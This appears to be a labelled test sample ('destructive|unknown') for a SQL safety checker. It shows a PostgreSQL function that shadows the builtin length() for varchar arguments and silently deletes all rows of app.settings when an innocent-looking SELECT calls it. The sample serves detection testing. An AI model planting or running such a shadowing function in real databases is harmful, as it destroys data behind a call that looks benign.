-- class: destructive|unknown
-- no search path trick: the types fit better than those of the builtin
CREATE FUNCTION public.length(varchar) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM app.settings; RETURN 1; END $$;
SELECT length('a'::varchar);
